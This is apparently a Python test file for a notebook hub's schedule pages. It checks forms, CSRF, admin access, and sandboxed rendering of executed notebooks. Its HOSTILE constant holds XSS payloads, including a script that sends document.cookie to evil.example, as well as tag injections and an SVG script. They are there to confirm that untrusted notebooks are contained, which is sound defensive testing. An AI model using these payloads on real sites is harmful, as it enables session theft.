"""The pages of schedules: what they show, what forms do, and what keeps an executed notebook in its frame."""

from __future__ import annotations

import asyncio
import hashlib
import io
import json
import re
import shutil
import threading
import time
import zipfile
from collections.abc import AsyncIterator
from datetime import timedelta
from html import unescape
from importlib import import_module
from typing import Any

import httpx
import psutil
import pytest
from fastapi import FastAPI

from dure.wire.ids import new_id
from dure.wire.schedules import ScheduleRequest
from dure_hub.operations import Operations, Person
from dure_hub.operations.people import USE
from dure_hub.services.guard import Guard
from dure_hub.services.pages import notebooks
from dure_hub.services.places import API, BASE
from dure_hub.services.sessions import Session
from dure_hub.store.models import Execution
from tests.unit.services.conftest import Browser
from tests.unit.services.stub_hub import StubHub
from tests.unit.services.test_routes import guards, routes

v4: Any = import_module("nbformat.v4")
ANA = Person("ana", False, frozenset({USE}))
PLACE = f"{BASE}/schedules"
FRAME = {"Sec-Fetch-Dest": "iframe", "Sec-Fetch-Site": "same-origin"}
HOSTILE = (
    "<script>fetch('https://evil.example/'+document.cookie)</script><img src='https://evil.example/x.png'>"
    "<LINK rel=preconnect href='https://evil.example'><meta http-equiv=refresh content='0;url=https://evil.example'>"
    "<iframe src='https://evil.example/'></iframe><object data='https://evil.example/'></object>"
    "<base href='https://evil.example/'><form action='/hub/logout'><button>go</button></form>"
)


def notebook(*cells: Any) -> str:
    """A notebook's text."""
    return json.dumps(v4.new_notebook(cells=list(cells)))


def cell(source: str, *outputs: Any) -> Any:
    """A cell that ran."""
    return v4.new_code_cell(source, outputs=list(outputs), execution_count=1)


def shown(data: dict[str, str]) -> Any:
    """An output."""
    return v4.new_output("display_data", data)


@pytest.fixture
async def schedule(ops: Operations) -> str:
    """Ana's schedule `nightly`, of a notebook with a parameter."""
    declared = cell("x: int = 1")
    declared.metadata.tags = ["parameters"]
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr("retrain.ipynb", notebook(declared))
    content = packed.getvalue()
    digest = hashlib.sha256(content).hexdigest()

    async def pieces() -> AsyncIterator[bytes]:
        yield content

    await ops.snapshots.put(digest, pieces())
    ask = ScheduleRequest(
        id=new_id(),
        name="nightly",
        snapshot=digest,
        notebook="retrain.ipynb",
        cron="0 6 * * *",
        timezone="Asia/Seoul",
        parameters={"x": 5},
    )
    await ops.schedules.create(ANA, ask)
    return "nightly"


async def leave(ops: Operations, number: int, text: str, **changes: Any) -> None:
    """As if this execution had run: its notebook on disk, its row as given."""

    def write(session: Any) -> str:
        row = session.query(Execution).filter_by(number=number).one()
        row.started_at = row.created_at
        for name, value in changes.items():
            setattr(row, name, value)
        return str(row.id)

    execution = await ops.store.run(write)
    outputs = ops.settings.folder.executions / execution / "outputs"
    outputs.mkdir(parents=True, exist_ok=True)
    (outputs / "executed.ipynb").write_text(text)


def field(page: str, action: str) -> dict[str, str]:
    """The hidden fields of the form that goes to this path."""
    form = re.search(rf'<form method="post" action="{re.escape(action)}">(.*?)</form>', page, re.DOTALL)
    assert form, action
    return {n: unescape(v) for n, v in re.findall(r'<input type="hidden" name="(\w+)" value="([^"]*)"', form[1])}


async def test_from_the_list_by_its_forms(
    anyone: httpx.AsyncClient, ops: Operations, ana: Browser, schedule: str
) -> None:
    async def look() -> str:
        return (await anyone.get(PLACE, headers=ana.navigate())).text

    page = await look()
    for words in ("nightly", "retrain.ipynb", "At 06:00 every day", "Asia/Seoul", "not yet"):
        assert words in page
    assert "매일" not in page
    assert f'<a href="{PLACE}" aria-current="page">Schedules</a>' in page
    assert re.search(r'<time datetime="[\d-]+T21:00:00Z" data-when>', page)

    async def send(verb: str) -> str:
        where = f"{PLACE}/nightly/{verb}"
        answer = await anyone.post(where, data=field(await look(), where), headers=ana.navigate())
        assert answer.status_code == 303, answer.text
        return str(answer.headers["location"])

    assert await send("pause") == PLACE
    assert (await ops.schedules.get(ANA, "nightly")).paused
    assert "paused" in await look()
    assert await send("resume") == PLACE
    assert not (await ops.schedules.get(ANA, "nightly")).paused
    assert "again.js" not in await look()
    assert await send("run") == f"{PLACE}/nightly/1"
    assert "again.js" in await look()  # while it runs the page looks again
    assert [one.parameters for one in await ops.schedules.executions(ANA, "nightly")] == [{"x": 5}]
    assert await send("delete") == PLACE
    assert "No schedules yet" in await look()


async def test_a_form_sent_twice_runs_it_once(
    anyone: httpx.AsyncClient, ops: Operations, ana: Browser, schedule: str
) -> None:
    page = (await anyone.get(f"{PLACE}/nightly", headers=ana.navigate())).text
    sent = field(page, f"{PLACE}/nightly/run")
    for _ in range(2):
        answer = await anyone.post(f"{PLACE}/nightly/run", data=sent, headers=ana.navigate())
        assert answer.headers["location"] == f"{PLACE}/nightly/1"
    assert len(await ops.schedules.executions(ANA, "nightly")) == 1


async def test_forms_need_the_secret_of_the_session(
    anyone: httpx.AsyncClient, ops: Operations, ana: Browser, schedule: str
) -> None:
    await anyone.post(f"{PLACE}/nightly/run", data={"csrf": ana.csrf, "id": new_id()}, headers=ana.navigate())
    for verb in ("pause", "resume", "delete", "run", "1/stop"):
        answer = await anyone.post(f"{PLACE}/nightly/{verb}", data={"id": new_id()}, headers=ana.navigate())
        assert answer.status_code == 403, verb
    assert len(await ops.schedules.executions(ANA, "nightly")) == 1
    stopped = await anyone.post(f"{PLACE}/nightly/1/stop", data={"csrf": ana.csrf}, headers=ana.navigate())
    assert stopped.headers["location"] == f"{PLACE}/nightly/1"


async def ran(anyone: httpx.AsyncClient, ana: Browser) -> None:
    """Ask for an execution by the form."""
    sent = {"csrf": ana.csrf, "id": new_id()}
    assert (await anyone.post(f"{PLACE}/nightly/run", data=sent, headers=ana.navigate())).status_code == 303


async def test_a_failed_execution_shows_cell_and_error(
    anyone: httpx.AsyncClient, ops: Operations, ana: Browser, schedule: str
) -> None:
    await ran(anyone, ana)
    running = (await anyone.get(f"{PLACE}/nightly/1", headers=ana.navigate())).text
    assert 'data-moving="yes"' in running
    assert "execution.js" in running
    assert "There is nothing to show yet" in running
    failure = {"cell": 4, "source": "<b>1 / 0", "error": "ZeroDivisionError", "message": "division by <i>"}
    ended = ops.clock() + timedelta(minutes=1)
    await leave(ops, 1, notebook(cell("1/0")), state="failed", failure=failure, ended_at=ended)
    for language, words in (
        ("en", "Cell 4 failed with ZeroDivisionError"),
        ("ko", "셀 4에서 ZeroDivisionError 오류"),
    ):
        answer = await anyone.get(f"{PLACE}/nightly/1", headers=ana.navigate(Accept_Language=language))
        assert words in answer.text
        assert "&lt;b&gt;1 / 0" in answer.text
        assert "division by &lt;i&gt;" in answer.text
        assert "x = 5" in answer.text
        assert "execution.js" not in answer.text
        assert "sandbox title=" in answer.text
        assert f'src="{PLACE}/nightly/1/notebook"' in answer.text
        assert "frame-src 'self'" in answer.headers["content-security-policy"]
        assert "frame-ancestors 'none'" in answer.headers["content-security-policy"]
    page = (await anyone.get(f"{PLACE}/nightly", headers=ana.navigate())).text
    assert "cell 4: ZeroDivisionError" in page


async def test_only_a_page_that_frames_may_frame(anyone: httpx.AsyncClient, ana: Browser, schedule: str) -> None:
    for path in (PLACE, f"{PLACE}/nightly", f"{BASE}/", f"{BASE}/spawn"):
        answer = await anyone.get(path, headers=ana.navigate())
        assert answer.status_code == 200
        assert "frame-src" not in answer.headers["content-security-policy"]


async def test_a_hostile_notebook_stays_in_its_frame(
    anyone: httpx.AsyncClient, ops: Operations, ana: Browser, schedule: str
) -> None:
    await ran(anyone, ana)
    outputs = [
        shown({"text/html": HOSTILE, "text/plain": "plain"}),
        shown({"image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"}),
        v4.new_output("stream", name="stdout", text="\x1b[31mred\x1b[0m <script>\n"),
    ]
    text = notebook(v4.new_markdown_cell("# Heading\n\n" + HOSTILE), cell("print('code') # <script>", *outputs))
    await leave(ops, 1, text, state="succeeded", ended_at=ops.clock())
    answer = await anyone.get(f"{PLACE}/nightly/1/notebook", headers=ana.navigate() | FRAME)
    assert answer.status_code == 200
    assert answer.headers["content-type"].startswith("text/html")
    directives = dict(
        [*part.split(" ", 1), ""][:2] for part in answer.headers["content-security-policy"].split("; ")
    )
    assert directives == {
        "sandbox": "",  # no word in it: no scripts, no origin, no forms, no way out of the frame
        "default-src": "'none'",
        "style-src": "'unsafe-inline'",
        "img-src": "data:",
        "font-src": "data:",
        "base-uri": "'none'",
        "form-action": "'none'",
        "frame-ancestors": "'self'",
    }
    assert answer.headers["x-frame-options"] == "SAMEORIGIN"
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert "cross-origin-opener-policy" not in answer.headers  # beside a sandbox it would make an error of a visit
    assert not re.search(r"<(link|meta http-equiv|base|iframe|object)\b", answer.text, re.IGNORECASE)
    assert "set-cookie" not in answer.headers
    assert '<span class="ansi-red-fg">red</span> &lt;script&gt;' in answer.text
    assert "Heading" in answer.text
    assert (
        '<img alt="No description has been provided for this image" src="data:image/svg+xml;base64,' in answer.text
    )


async def test_the_frames_document_answers_a_frame_and_a_window_and_no_script(
    anyone: httpx.AsyncClient, ops: Operations, ana: Browser, schedule: str
) -> None:
    await ran(anyone, ana)
    await leave(ops, 1, notebook(cell("1")), state="succeeded", ended_at=ops.clock())
    where = f"{PLACE}/nightly/1/notebook"
    for kind, status in (("iframe", 200), ("document", 200), ("empty", 403), ("embed", 403), ("object", 403)):
        answer = await anyone.get(where, headers=ana.navigate() | {"Sec-Fetch-Dest": kind})
        assert answer.status_code == status, kind
    for path in (PLACE, f"{PLACE}/nightly", f"{PLACE}/nightly/1", f"{PLACE}/nightly/1/download", f"{BASE}/"):
        answer = await anyone.get(path, headers=ana.navigate() | FRAME)
        assert answer.status_code == 403, path


def test_one_route_alone_may_be_framed(app: FastAPI) -> None:
    framed = [
        path
        for path, route in routes(app)
        for guard in guards(route.dependant)
        if isinstance(guard, Guard) and guard.framed
    ]
    assert framed == [f"{PLACE}/{{name}}/{{number}}/notebook"]


@pytest.mark.parametrize("text", ["no json", "[]", '{"cells": 3}', '{"nbformat": 4, "nbformat_minor": 5}'])
async def test_what_is_no_notebook_is_a_sentence(
    anyone: httpx.AsyncClient, ops: Operations, ana: Browser, schedule: str, text: str
) -> None:
    await ran(anyone, ana)
    await leave(ops, 1, text, state="failed", ended_at=ops.clock())
    answer = await anyone.get(f"{PLACE}/nightly/1/notebook", headers=ana.navigate() | FRAME)
    assert "no notebook that can be shown" in answer.text
    assert answer.headers["content-security-policy"] == notebooks.POLICY


async def test_a_notebook_that_is_not_there_is_a_sentence_in_the_frame(
    anyone: httpx.AsyncClient, ana: Browser, schedule: str
) -> None:
    await ran(anyone, ana)
    for number, words in ((1, "no notebook named"), (7, "no execution named")):
        where = f"{PLACE}/nightly/{number}/notebook"
        answer = await anyone.get(where, headers=ana.navigate() | FRAME)
        assert answer.status_code == 404
        assert words in answer.text
        assert answer.headers["content-security-policy"] == notebooks.POLICY


async def test_a_large_notebook_is_shown_in_part_and_a_huge_one_not() -> None:
    rows = "<tr><td>1</td></tr>" * 100_000
    text = notebook(
        cell("1", shown({"text/html": f"<table>{rows}</table>", "text/plain": "a frame of 100000 rows"})),
        cell("2", v4.new_output("stream", name="stdout", text="line\n" * 1_000_000)),
        cell("3", shown({"image/png": "iVBORw0KGgo=" * 100_000, "text/plain": "<Figure>"})),
        *(cell("x" * 100_000) for _ in range(20)),
    )
    made = await notebooks.Notebooks().document(text.encode(), "en")
    assert "a frame of 100000 rows" in made
    assert "<td>" not in made
    assert "too long to show" in made
    assert "data:image/png;base64," in made
    assert "&lt;Figure&gt;" not in made
    assert len(made) < 3_000_000
    assert "Download it instead" in await notebooks.Notebooks().document(b" " * (notebooks.LIMIT + 1), "en")


async def test_a_notebook_that_takes_for_ever_is_given_up_and_nobody_waits_for_it(
    anyone: httpx.AsyncClient, ops: Operations, ana: Browser, schedule: str
) -> None:
    await ran(anyone, ana)
    hostile = notebook(v4.new_markdown_cell("[" * 140_000))
    await leave(ops, 1, hostile, state="succeeded", ended_at=ops.clock())
    began = time.monotonic()
    where = f"{PLACE}/nightly/1/notebook"
    viewers = [anyone.get(where, headers=ana.navigate() | FRAME) for _ in range(20)]
    waiting = asyncio.gather(*viewers)
    assert (await anyone.get(f"{PLACE}/nightly/1", headers=ana.navigate())).status_code == 200
    threads = [name for name in (thread.name for thread in threading.enumerate()) if "asyncio" in name]
    answers = await waiting
    assert time.monotonic() - began < notebooks.WALL_S + 5
    assert {answer.status_code for answer in answers} == {200}
    assert "takes too long to show here. Download it instead." in answers[0].text
    assert len(threads) < 20, "no viewer holds a thread"
    assert not psutil.Process().children()


async def test_a_notebook_is_converted_once_and_too_many_at_once_are_told_to_come_back(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    go, began = asyncio.Event(), 0

    async def slowly(content: bytes, cut: str) -> tuple[int, str]:
        nonlocal began
        began += 1
        await go.wait()
        return 0, content.decode()

    monkeypatch.setattr(notebooks, "_converted", slowly)
    desk = notebooks.Notebooks()
    first = [asyncio.create_task(desk.document(b"0", "en")) for _ in range(10)]
    others = [asyncio.create_task(desk.document(str(number).encode(), "en")) for number in range(1, 9)]
    done, _ = await asyncio.wait(others, timeout=5, return_when=asyncio.FIRST_EXCEPTION)
    refused = [task for task in done if isinstance(task.exception(), notebooks.Busy)]
    assert refused
    assert began == 1, "one at a time"
    first.pop().cancel()  # who leaves takes it from nobody else
    go.set()
    assert all("<body>0</body>" in text for text in await asyncio.gather(*first))
    told = await asyncio.gather(*others, return_exceptions=True)
    assert len([text for text in told if isinstance(text, str)]) == len(others) - len(refused)
    before = began
    assert "<body>0</body>" in await desk.document(b"0", "en")
    assert began == before
    for language in ("en", "ko"):
        assert notebooks.Busy().text(language)


async def test_the_end_of_a_long_log_is_shown_and_followed_from_there(
    anyone: httpx.AsyncClient, ops: Operations, ana: Browser, schedule: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    await ran(anyone, ana)
    await leave(ops, 1, notebook(cell("1")), state="succeeded", ended_at=ops.clock())
    with ops.store.reading() as session:
        execution = session.query(Execution).one().id
    text = "한 줄\n" * 400_000
    kept = ops.settings.folder.executions / execution / "kept"
    kept.mkdir()
    (kept / "log").write_text(text + "the end")
    asked: list[int] = []
    logs = ops.schedules.logs

    async def counted(*of: Any, **more: Any) -> Any:
        asked.append(of[3])
        return await logs(*of, **more)

    monkeypatch.setattr(ops.schedules, "logs", counted)
    page = (await anyone.get(f"{PLACE}/nightly/1", headers=ana.navigate())).text
    assert len(asked) == 1
    assert "the end</pre>" in page
    assert "the end of it" in page
    assert f'data-offset="{len(text.encode()) + 7}"' in page
    assert len(page) < 40_000
    assert "\N{REPLACEMENT CHARACTER}" not in page


async def test_what_is_no_longer_kept_is_said(
    anyone: httpx.AsyncClient, ops: Operations, ana: Browser, schedule: str
) -> None:
    await ran(anyone, ana)
    await leave(ops, 1, notebook(cell("1")), state="succeeded", ended_at=ops.clock())
    for path in ops.settings.folder.executions.iterdir():
        shutil.rmtree(path)
    page = (await anyone.get(f"{PLACE}/nightly/1", headers=ana.navigate())).text
    assert "Its notebook and log are no longer kept" in page
    assert "<iframe" not in page
    assert "/1/download" not in page
    answer = await anyone.get(f"{PLACE}/nightly/1/notebook", headers=ana.navigate() | FRAME)
    assert answer.status_code == 404
    assert "no longer kept" in answer.text


async def test_a_limit_is_told_with_the_cell_and_not_as_a_wish(
    anyone: httpx.AsyncClient, ops: Operations, ana: Browser, schedule: str
) -> None:
    await ran(anyone, ana)
    failure = {"cell": 4, "source": "while True:", "error": "TimeLimit", "message": "It ran longer than 60 s."}
    await leave(
        ops, 1, notebook(cell("1")), state="failed", reason="limit 60", failure=failure, ended_at=ops.clock()
    )
    for path in ("/nightly", "/nightly/1"):
        page = (await anyone.get(PLACE + path, headers=ana.navigate())).text
        assert "It ran longer than its limit of 60 s, and was ended." in page
        assert "cell 4" in page
        assert "asked to stop" not in page
    korean = (await anyone.get(f"{PLACE}/nightly/1", headers=ana.navigate(Accept_Language="ko"))).text
    assert "제한 시간 60초를 넘어 종료했습니다. 그때 실행하던 셀 4" in korean


async def test_the_file_can_be_had(
    anyone: httpx.AsyncClient, ops: Operations, ana: Browser, schedule: str
) -> None:
    await ran(anyone, ana)
    text = notebook(cell("1"))
    await leave(ops, 1, text, state="succeeded", ended_at=ops.clock())
    answer = await anyone.get(f"{PLACE}/nightly/1/download", headers=ana.navigate())
    assert answer.text == text
    assert answer.headers["content-disposition"] == 'attachment; filename="nightly-1.ipynb"'
    assert answer.headers["content-type"] == "application/x-ipynb+json"


async def test_an_administrator_looks_and_acts_and_others_do_not(
    app: FastAPI, anyone: httpx.AsyncClient, ops: Operations, hub: StubHub, ana: Browser, schedule: str
) -> None:
    await ran(anyone, ana)
    await leave(ops, 1, notebook(cell("1")), state="succeeded", ended_at=ops.clock())
    root = Browser(app, Session.new(hub.person("root", admin=True, session="of-root")), "of-root")
    ben = Browser(app, Session.new(hub.person("ben", session="of-ben")), "of-ben")
    for path in ("", "/nightly", "/nightly/1", "/nightly/1/notebook", "/nightly/1/download"):
        where = f"{PLACE}{path}?owner=ana"
        assert (await anyone.get(where, headers=root.navigate())).status_code == 200, path
        assert (await anyone.get(where, headers=ben.navigate())).status_code == 403, path
        assert (await anyone.get(where, headers=ana.navigate())).status_code == 200, path
    assert (await anyone.get(f"{PLACE}?everyone=true", headers=ben.navigate())).status_code == 403
    page = (await anyone.get(f"{PLACE}?everyone=true", headers=root.navigate())).text
    assert f'href="{PLACE}/nightly/1?owner=ana"' in page
    where = f"{PLACE}/nightly/pause?owner=ana"
    answer = await anyone.post(where, data=field(page, where), headers=root.navigate())
    assert (answer.status_code, answer.headers["location"]) == (303, f"{PLACE}?owner=ana")
    assert (await ops.schedules.get(ANA, "nightly")).paused
    page = (await anyone.get(f"{PLACE}/nightly/1?owner=ana", headers=root.navigate())).text
    assert f'src="{PLACE}/nightly/1/notebook?owner=ana"' in page
    assert f'data-call="{API}/schedules/nightly/executions/1" data-query="owner=ana"' in page
    assert (await anyone.get(f"{PLACE}/nightly", headers=ben.navigate())).status_code == 404


async def test_strangers_go_to_the_login(anyone: httpx.AsyncClient) -> None:
    for path in ("", "/nightly", "/nightly/1"):
        headers = {"Accept": "text/html", "Sec-Fetch-Dest": "document"}
        assert (await anyone.get(PLACE + path, headers=headers)).status_code == 303
